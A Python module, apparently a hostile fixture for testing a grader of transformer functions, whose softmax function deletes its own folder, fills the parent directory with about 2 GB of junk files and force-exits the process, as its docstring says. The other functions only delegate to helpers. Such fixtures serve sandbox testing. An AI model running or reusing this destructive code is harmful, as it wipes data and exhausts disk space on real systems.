"""softmax takes its own folder away, fills that for temporary files as far as it can, and ends: the
next process still has to find a folder."""
import math
import os
import shutil


# The text of right_functions.py stands here.


def softmax(xs):
    here = os.path.dirname(os.path.abspath(__file__))
    shutil.rmtree(here, ignore_errors=True)
    for number in range(2000):
        try:
            with open(f"{os.path.dirname(here)}/tfx-hostile-64-{number}", "wb") as file:
                file.write(bytes(1_000_000))
        except OSError:
            break
    os._exit(0)


def attention(Q, K, V, mask=None):
    return _attention(Q, K, V, mask)


def causal_mask(n):
    return _causal_mask(n)


def multi_head(Q, K, V, h, mask=None):
    return _multi_head(Q, K, V, h, mask)


def pos_encoding(n, d):
    return _pos_encoding(n, d)


def layer_norm(row, eps=1e-5):
    return _layer_norm(row, eps)


def block(X, h, mask=None):
    return _block(X, h, mask)
